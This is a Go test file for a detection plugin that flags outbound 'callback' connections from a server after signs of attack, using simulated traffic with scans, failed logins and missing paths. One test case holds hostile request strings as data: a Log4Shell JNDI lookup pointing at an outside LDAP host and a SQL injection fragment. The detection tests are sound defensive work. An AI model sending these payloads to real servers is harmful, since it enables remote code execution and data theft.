package outbound

import (
	"fmt"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vedette-cti/vedette"
	"github.com/vedette-cti/vedette/internal/detect/windowtest"
)

const (
	outsider = "203.0.113.9"
	server   = "198.51.100.10"
)

type adder func(...vedette.Event)

// serve is thirty days of a server's ordinary life: visitors, and updates from
// one place.
func serve(add adder) {
	for day := range 30 {
		add(windowtest.Conn(windowtest.At(day, 9*time.Hour), "192.0.2.77", server, 443, true))
		add(windowtest.Outbound(windowtest.At(day, 3*time.Hour), server, "192.0.2.200", 443))
	}
}

// attack is an attack on the server on day 10.
func attack(add adder) {
	for i := range 12 {
		add(windowtest.Get(windowtest.At(10, time.Duration(i)*time.Second), outsider, fmt.Sprintf("/x%d", i), 404))
	}
}

func check(t *testing.T, name string, fill func(add adder), want ...string) {
	t.Helper()
	t.Run(name, func(t *testing.T) {
		t.Helper()
		db := windowtest.New(t)
		serve(db.Add)
		fill(db.Add)
		got := windowtest.Brief(db.Analyze(Plugin, nil))
		if diff := cmp.Diff(append([]string{}, want...), got); diff != "" {
			t.Errorf("detections (-want +got):\n%s", diff)
		}
	})
}

func TestCallback(t *testing.T) {
	f := func(name string, fill func(add adder), want ...string) { t.Helper(); check(t, name, fill, want...) }
	at := windowtest.At(11, 0)
	found := "callback compromise " + outsider
	f("after missing paths", func(add adder) { attack(add); add(windowtest.Outbound(at, server, outsider, 443)) }, found)
	f("after a scan", func(add adder) {
		for i := range 6 {
			add(windowtest.Conn(windowtest.At(10, 0), outsider, server, uint16(1000+i), false))
		}
		add(windowtest.Outbound(at, server, outsider, 8443))
	}, found)
	f("after failed logins", func(add adder) {
		for i := range 6 {
			add(windowtest.Login(windowtest.At(10, time.Duration(i)), outsider, "root", false, nil))
		}
		add(windowtest.Outbound(at, server, outsider, 443))
	}, found)
	f("after injection", func(add adder) {
		add(windowtest.Get(windowtest.At(10, 0), outsider, "/?x=${jndi:ldap://203.0.113.9/a}", 200))
		add(windowtest.Get(windowtest.At(10, 1), outsider, "/?q=1%20union%20select%201", 200))
		add(windowtest.Outbound(at, server, outsider, 389))
	}, found)

	f("no attack", func(add adder) {
		add(windowtest.Get(windowtest.At(10, 0), outsider, "/", 200), windowtest.Outbound(at, server, outsider, 443))
	})
	f("contacted before the attack", func(add adder) {
		add(windowtest.Outbound(windowtest.At(5, 0), server, outsider, 443))
		attack(add)
		add(windowtest.Outbound(at, server, outsider, 443))
	})
	f("mail, names and time", func(add adder) {
		attack(add)
		for _, port := range []uint16{25, 53, 123} {
			add(windowtest.Outbound(at, server, outsider, port))
		}
	})
	f("its own answers", func(add adder) {
		attack(add)
		e := windowtest.Outbound(at, server, outsider, 51000)
		e.SourcePort = 443
		add(e)
		add(windowtest.Conn(windowtest.At(10, 0), outsider, server, 5555, true)) // a served port above 1023
		e.SourcePort = 5555
		add(e)
	})
	f("refused", func(add adder) {
		attack(add)
		e := windowtest.Outbound(at, server, outsider, 443)
		e.Outcome = vedette.OutcomeFailure
		add(e)
	})
	f("a workstation", func(add adder) { attack(add); add(windowtest.Outbound(at, "198.51.100.99", outsider, 443)) })
	f("behind a gateway", func(add adder) {
		for i := range 600 {
			add(windowtest.Outbound(windowtest.At(i/200, time.Duration(i%200)*time.Minute), server, fmt.Sprintf("192.0.2.%d", i%200), 443))
		}
		for day := 3; day < 30; day++ {
			for i := range 120 {
				add(windowtest.Outbound(windowtest.At(day, time.Duration(i)*time.Minute), server, fmt.Sprintf("192.0.2.%d", i), 443))
			}
		}
		attack(add)
		add(windowtest.Outbound(at, server, outsider, 443))
	}, "gateway-callback attempt "+outsider+" weak")
}

func BenchmarkAnalyze(b *testing.B) { windowtest.Benchmark(b, Plugin) }
